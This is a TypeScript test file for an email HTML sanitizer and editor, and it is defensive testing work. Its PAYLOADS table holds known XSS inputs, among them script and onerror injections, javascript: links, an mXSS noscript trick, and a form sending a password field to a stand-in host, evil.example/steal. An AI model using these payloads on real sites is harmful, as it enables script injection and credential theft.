import { describe, expect, it } from 'vitest';
import { fromEditor, sanitizeEmailHtml, toEditor } from '@/utils/sanitize';

/** Known XSS payloads (the fault suite's hostile task among them) and what survives. */
const PAYLOADS: [string, string, string][] = [
  ['script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
  ['event handler', '<img src=x onerror="alert(1)">', '<img>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['entity-encoded javascript: link', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
  ['data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
  ['form', '<form action="https://evil.example/steal"><input name="password"></form>', ''],
  ['iframe', '<iframe src="https://evil.example/"></iframe>', ''],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">', ''],
  ['svg onload', '<svg onload="alert(1)"><circle r="1"></circle></svg>', ''],
  ['style element', '<style>* { display: none !important; }</style><p>a</p>', '<p>a</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
  ['base', '<base href="https://evil.example/"><a href="x">x</a>', '<a href="x">x</a>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">', ''],
  ['mXSS via noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
  ['template', '<template><script>alert(1)</script></template>', ''],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>', 'x'],
  ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['image from javascript:', '<img src="javascript:alert(1)">', '<img>'],
  ['contact data', 'Mallory <img src=x onerror="alert(\'lastName\')">', 'Mallory <img>'],
];

describe('sanitizeEmailHtml', () => {
  it.each(PAYLOADS)('%s', (_name, payload, safe) => {
    expect(sanitizeEmailHtml(payload)).toBe(safe);
  });

  it('keeps what email needs: links, lists, tables, inline styles, data images', () => {
    const email =
      '<p style="color:#333" align="center"><a href="https://example.com/x?a=1&amp;b=2" target="_blank">a</a> <a href="mailto:jane@example.com">m</a> <a href="{{unsubscribeLink}}">u</a></p><ul><li>one</li></ul><table cellpadding="4" border="0"><tbody><tr><td width="50%" valign="top">x</td></tr></tbody></table><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">';
    expect(sanitizeEmailHtml(email)).toBe(
      email.replace('target="_blank"', 'target="_blank" rel="noopener noreferrer"'),
    );
  });
});

describe('the editor’s copy', () => {
  const live = (html: string) => {
    const root = document.createElement('div');
    root.append(document.importNode(toEditor(html), true));
    return root;
  };

  it('loads nothing: images held aside as placeholders, loading styles held aside', () => {
    const root = live(
      '<p>Tracking <img src="https://tracker.example/p.gif" width="1" height="1"></p><p style="background:url(https://tracker.example/bg.png)">Styled</p>',
    );
    expect(root.querySelector('img')?.hasAttribute('src')).toBe(false);
    expect(root.querySelector('[style]')).toBeNull();
    expect(root.querySelector('[src], [style*="url("]')).toBeNull();
    // …and sends them as they were (the address back as the image's last attribute).
    expect(fromEditor(root)).toBe(
      '<p>Tracking <img width="1" height="1" src="https://tracker.example/p.gif"></p><p style="background:url(https://tracker.example/bg.png)">Styled</p>',
    );
  });

  it('shows {{placeholders}} as tokens the rep deletes whole, and sends them as text', () => {
    const root = live('<p>Hi {{firstName}}, about {{ company }}.</p><p>{{calendarLink}}</p>');
    const tokens = [...root.querySelectorAll('.evr-token')];
    expect(tokens.map((t) => t.textContent)).toEqual([
      '{{firstName}}',
      '{{ company }}',
      '{{calendarLink}}',
    ]);
    expect(tokens.every((t) => t.getAttribute('contenteditable') === 'false')).toBe(true);
    expect(fromEditor(root)).toBe(
      '<p>Hi {{firstName}}, about {{ company }}.</p><p>{{calendarLink}}</p>',
    );
    tokens[0]?.remove();
    expect(fromEditor(root)).toBe('<p>Hi , about {{ company }}.</p><p>{{calendarLink}}</p>');
  });

  it.each(PAYLOADS)('%s: nothing of it reaches the editor or leaves it', (_name, payload, safe) => {
    const root = live(payload);
    expect(
      root.querySelector('script, iframe, form, object, embed, svg, style, [onerror]'),
    ).toBeNull();
    expect(fromEditor(root)).toBe(safe);
  });
});
